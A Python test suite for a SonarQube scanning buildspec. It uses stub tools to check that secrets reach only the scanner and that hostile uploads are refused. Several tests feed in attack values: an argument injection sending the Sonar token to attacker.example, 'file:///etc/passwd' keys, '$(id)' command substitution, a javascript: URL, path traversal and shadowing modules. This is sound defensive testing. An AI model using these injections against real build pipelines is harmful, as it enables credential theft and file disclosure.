"""The phases of the buildspec, run with programs in place of Maven, the AWS CLI and the scanner that tell what they got.

The real ones are used by the end-to-end tests. Here is what those cannot show: who gets which secret, and what happens
to a build in which something is broken.
"""

import hashlib
import io
import os
import pathlib
import platform
import tempfile
import unittest
import zipfile

import buildspec
from test_preflight import make

TOKEN = "sqa_of_the_build"
SECRET = "secret-key-of-the-role"
VARIABLES = {"Linux-x86_64": ("LINUX_X64", "linux-x64"), "Linux-aarch64": ("LINUX_AARCH64", "linux-aarch64"),
             "Darwin-x86_64": ("MACOSX_X64", "macosx-x64"), "Darwin-arm64": ("MACOSX_AARCH64", "macosx-aarch64")}

# Tells who called it: the folder that it runs in, whether it has the token, and its arguments.
TELL = """#!/bin/bash
echo "CALL $(basename "$0") in $PWD token=${SONAR_TOKEN:-none}"
for argument in "$@"; do echo "ARGUMENT $(basename "$0") $argument"; done
"""
MAVEN = TELL + """
for argument in "$@"; do
  case $argument in -DoutputDirectory=*) folder="${argument#*=}" ;; esac
done
cp "$TEST_SCANNER" "$folder/sonar-scanner-cli-$SCANNER_VERSION-$TEST_PLATFORM.zip"
"""
AWS = TELL.replace('echo "', 'echo >&2 "') + """
cp "$TEST_UPLOAD" "${@: -1}" || exit 1
echo '{"VersionId": "of the object"}'
"""
SCANNER = TELL + """
echo "USER $(id -u)"
env | sed 's/^/ENVIRONMENT /' | grep -v SONAR_TOKEN
for argument in "$@"; do
  case $argument in
    -Dsonar.scanner.metadataFilePath=*) report="${argument#*=}" ;;
    -Dproject.settings=*) sed 's/^/SETTING /' "${argument#*=}" ;;
    -Dsonar.projectBaseDir=*) ls -A "${argument#*=}" | sed 's/^/FILE /' ;;
  esac
done
@REPORT@
exit @STATUS@
"""
REPORT = "printf 'projectKey=p\\nceTaskId=AYh-7_x\\ndashboardUrl=https://sonar.example.com/dashboard?id=p\\n' > \"$report\""


def scanner(status, report):
    """The zip with the scanner, which ends with this status and writes this report."""
    program = SCANNER.replace("@STATUS@", str(status)).replace("@REPORT@", report)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in (("bin/sonar-scanner", program), ("jre/bin/java", ""), ("jre/lib/jspawnhelper", "")):
            archive.writestr("sonar-scanner-1/" + name, content)
    return buffer.getvalue()


class Build(unittest.TestCase):
    def setUp(self):
        folder = tempfile.TemporaryDirectory()
        self.addCleanup(folder.cleanup)
        self.folder = pathlib.Path(folder.name)
        # The scanner, which is nobody, must get through to its own folder.
        self.folder.chmod(0o711)
        self.temporary = self.folder / "tmp"
        self.temporary.mkdir()
        self.temporary.chmod(0o1777)

    def build(self, upload=make(("a.py", b"x = 1  # NOSONAR\n")), status=0, report=REPORT, **changes):
        """The outcome of the phases, the exported variables and the log."""
        programs = self.folder / "programs"
        programs.mkdir(exist_ok=True)
        for name, text in (("mvn", MAVEN), ("aws", AWS)):
            (programs / name).write_text(text)
            (programs / name).chmod(0o755)
        archive = scanner(status, report)
        (self.folder / "scanner.zip").write_bytes(archive)
        (self.folder / "upload.zip").write_bytes(upload)
        variable, name = VARIABLES[f"{platform.system()}-{platform.machine()}"]
        environment = {
            "PATH": f"{programs}:{os.environ['PATH']}", "HOME": os.environ["HOME"],
            "TMPDIR": str(self.temporary),
            "TEST_SCANNER": str(self.folder / "scanner.zip"), "TEST_PLATFORM": name,
            "TEST_UPLOAD": str(self.folder / "upload.zip"),
            "SCANNER_SHA256_" + variable: hashlib.sha256(archive).hexdigest(),
            "AWS_SECRET_ACCESS_KEY": SECRET, "SONAR_TOKEN": TOKEN, "SONAR_HOST_URL": "https://sonar.example.com:9000/x",
            "SCAN_ID": "6a0e_b1", "SOURCE_BUCKET": "uploads", "SOURCE_KEY": "payments/api.zip", "SOURCE_VERSION": "v1",
            "SONAR_PROJECT_KEY": "payments-1a2b3c4d", "SONAR_FILE_DIRECTORY": ".",
            "SONAR_FILE_NAME": "sonar-project.properties",
        } | changes
        log = self.folder / "log"
        phases, exported = buildspec.run(environment, self.folder, log)
        text = log.read_text()
        # Whatever happened: no secret in what people read, and nothing left of the temporary files.
        told = "\n".join(line for line in text.splitlines() if not line.startswith("CALL "))
        self.assertNotIn(TOKEN, told)
        self.assertNotIn(SECRET, text)
        self.assertEqual(list(self.temporary.iterdir()), [])
        return phases, exported, text

    def evidence(self):
        return sorted(path.name for path in (self.folder / "source/scan-evidence").iterdir())

    def told(self, text, kind):
        return [line.removeprefix(kind + " ") for line in text.splitlines() if line.startswith(kind + " ")]


class Outcomes(Build):
    def test_a_gate_that_passes(self):
        phases, exported, _ = self.build()
        self.assertEqual(phases, {"install": True, "pre_build": True, "build": True, "post_build": True})
        self.assertEqual(exported, {
            "SCAN_STAGE": "quality_gate", "SCAN_EXIT_CODE": "0", "SONAR_CE_TASK_ID": "AYh-7_x",
            "SONAR_DASHBOARD_URL": "https://sonar.example.com/dashboard?id=p", "NOSONAR_COUNT": "1"})
        self.assertEqual(self.evidence(), ["build.txt", "preflight.json", "report-task.txt", "scanner.log"])

    def test_a_gate_that_fails(self):
        phases, exported, text = self.build(status=3)
        self.assertEqual(phases, {"install": True, "pre_build": True, "build": True, "post_build": True})
        self.assertEqual((exported["SCAN_STAGE"], exported["SCAN_EXIT_CODE"], exported["SONAR_CE_TASK_ID"]),
                         ("quality_gate", "3", "AYh-7_x"))
        self.assertEqual(self.told(text, "ANALYSIS"), ["TASK: AYh-7_x"])

    def test_a_wait_for_the_gate_that_is_too_short(self):
        phases, exported, _ = self.build(status=1)
        self.assertEqual(phases, {"install": True, "pre_build": True, "build": True, "post_build": True})
        self.assertEqual((exported["SCAN_STAGE"], exported["SCAN_EXIT_CODE"], exported["SONAR_CE_TASK_ID"]),
                         ("quality_gate", "1", "AYh-7_x"))

    def test_a_scan_that_breaks_off(self):
        phases, exported, text = self.build(status=1, report=":")
        self.assertFalse(phases["build"])
        self.assertEqual(self.told(text, "ANALYSIS"), [])
        self.assertEqual((exported["SCAN_STAGE"], exported["SCAN_EXIT_CODE"], exported["SONAR_CE_TASK_ID"]),
                         ("scan", "1", ""))
        self.assertEqual(self.evidence(), ["build.txt", "preflight.json", "scanner.log"])

    def test_an_upload_that_is_refused(self):
        phases, exported, text = self.build(upload=make(("../a.py", b"")))
        self.assertEqual(phases, {"install": True, "pre_build": False})
        self.assertEqual((exported["SCAN_STAGE"], exported["SCAN_EXIT_CODE"]), ("preflight", "65"))
        self.assertIn("\nPREFLIGHT REFUSED: '../a.py'", text)
        self.assertEqual(self.evidence(), ["build.txt", "preflight.json"])

    def test_a_scanner_that_is_not_the_published_one(self):
        variable = "SCANNER_SHA256_" + VARIABLES[f"{platform.system()}-{platform.machine()}"][0]
        phases, exported, text = self.build(**{variable: "0" * 64})
        self.assertEqual(phases, {"install": False})
        self.assertEqual(exported["SCAN_STAGE"], "install")
        self.assertEqual(self.evidence(), ["build.txt"])
        self.assertIn("is not the scanner that was published", text)

    def test_an_object_that_cannot_be_fetched(self):
        phases, exported, _ = self.build(TEST_UPLOAD="/nowhere")
        self.assertEqual(phases, {"install": True, "pre_build": False})
        self.assertEqual(exported["SCAN_STAGE"], "fetch")

    def test_a_variable_that_is_missing(self):
        for name in ("SOURCE_VERSION", "SONAR_TOKEN", "SONAR_HOST_URL"):
            phases, _, text = self.build(**{name: ""})
            self.assertFalse(phases["pre_build"])
            self.assertIn(f"The environment variable {name} is not set", text)


class Secrets(Build):
    def test_only_the_scanner_gets_the_token(self):
        _, _, text = self.build()
        calls = {call.split()[0]: call.split("token=")[1] for call in self.told(text, "CALL")}
        self.assertEqual(calls, {"mvn": "none", "aws": "none", "sonar-scanner": TOKEN})

    def test_the_scanner_gets_nothing_else(self):
        _, _, text = self.build()
        names = {line.split("=")[0] for line in self.told(text, "ENVIRONMENT")} - {"SHLVL", "PWD", "OLDPWD", "_"}
        self.assertEqual(names, {"PATH", "LANG", "HOME", "TMPDIR", "SONAR_SCANNER_JAVA_OPTS", "GIT_DIR"})

    @unittest.skipUnless(os.geteuid() == 0 and platform.system() == "Linux", "only the superuser can be somebody else")
    def test_the_scanner_is_not_the_superuser(self):
        _, _, text = self.build()
        self.assertEqual(self.told(text, "USER"), ["65534"])

    def test_values_that_name_variables_do_not_reach_the_scanner(self):
        for name, value in (("SONAR_PROJECT_KEY", "${env.SONAR_TOKEN}"), ("SCAN_ID", "${env.SONAR_TOKEN}"),
                            ("SONAR_HOST_URL", "https://${env.SONAR_TOKEN}.example.com")):
            phases, _, text = self.build(**{name: value})
            self.assertFalse(phases["pre_build"])
            self.assertIn(f"{name} is not usable", text)

    def test_an_object_key_is_no_address_and_no_option(self):
        _, _, text = self.build(SOURCE_KEY="--endpoint-url=https://attacker.example/${env.SONAR_TOKEN}.zip")
        self.assertIn("aws --key=--endpoint-url=https://attacker.example/${env.SONAR_TOKEN}.zip",
                      self.told(text, "ARGUMENT"))
        self.assertFalse([argument for argument in self.told(text, "ARGUMENT")
                          if argument.startswith("sonar-scanner") and "attacker" in argument])
        for key in ("file:///etc/passwd", "fileb:///etc/passwd", "https://attacker.example/x.zip"):
            phases, _, text = self.build(SOURCE_KEY=key)
            self.assertFalse(phases["pre_build"])
            self.assertIn("\nPREFLIGHT REFUSED: ", text)

    def test_a_report_with_more_than_ids_is_not_exported(self):
        report = "printf 'ceTaskId=$(id) `id`\\ndashboardUrl=javascript:alert(1)\\n' > \"$report\""
        _, exported, _ = self.build(report=report)
        self.assertEqual((exported["SONAR_CE_TASK_ID"], exported["SONAR_DASHBOARD_URL"]), ("", ""))


class HostileSource(Build):
    """CodeBuild has unpacked the upload into the folder that the build starts in."""

    def test_what_decides_is_pinned(self):
        _, _, text = self.build()
        arguments = {argument.removeprefix("sonar-scanner ") for argument in self.told(text, "ARGUMENT")}
        root = next(argument for argument in arguments if argument.startswith("-Dproject.settings=")).split("=")[1]
        root = root.removesuffix("/scan.properties")
        for pinned in ("-Dsonar.host.url=https://sonar.example.com:9000/x", "-Dsonar.projectKey=payments-1a2b3c4d",
                       f"-Dsonar.projectBaseDir={root}/source", "-Dsonar.sources=.",
                       f"-Dsonar.scanner.metadataFilePath={root}/work/report-task.txt",
                       f"-Dsonar.working.directory={root}/work/scannerwork",
                       "-Dsonar.scanner.skipJreProvisioning=true",
                       f"-Dsonar.scanner.javaExePath={root}/tools/scanner/jre/bin/java",
                       "-Dsonar.qualitygate.wait=true", "-Dsonar.qualitygate.timeout=300",
                       "-Dsonar.scm.disabled=true", "-Dsonar.scm.exclusions.disabled=true",
                       "-Dsonar.rust.clippy.enabled=false"):
            self.assertIn(pinned, arguments)

    def test_no_program_starts_in_the_uploaders_folder(self):
        _, _, text = self.build()
        for call in self.told(text, "CALL"):
            self.assertTrue(call.split(" in ")[1].startswith(f"{self.temporary}/scan."), call)

    def test_modules_and_reports_of_the_upload_are_not_used(self):
        source = self.folder / "source"
        (source / "scan-evidence").mkdir(parents=True)
        (source / "scan-evidence/report-task.txt").write_text("ceTaskId=fake\n")
        (source / ".scannerwork").mkdir()
        (source / ".scannerwork/report-task.txt").write_text("ceTaskId=fake\n")
        for module in ("json", "zipfile", "hashlib", "sitecustomize"):
            (source / f"{module}.py").write_text("raise SystemExit('ran a module of the upload')\n")
        phases, exported, text = self.build(status=1, report=":")
        self.assertTrue(phases["pre_build"], text)
        self.assertEqual(exported["SONAR_CE_TASK_ID"], "")
        self.assertEqual(self.evidence(), ["build.txt", "preflight.json", "scanner.log"])

    def test_a_link_in_place_of_the_evidence_leads_nowhere(self):
        target = self.folder / "elsewhere"
        target.mkdir()
        (self.folder / "source").mkdir()
        (self.folder / "source/scan-evidence").symlink_to(target)
        self.build()
        self.assertEqual(list(target.iterdir()), [])
        self.assertIn("preflight.json", self.evidence())

    def test_scans_the_object_and_not_the_unpacked_folder(self):
        (self.folder / "source").mkdir()
        (self.folder / "source/other.py").write_text("")
        _, _, text = self.build()
        self.assertEqual(self.told(text, "FILE"), ["a.py"])


if __name__ == "__main__":
    unittest.main()
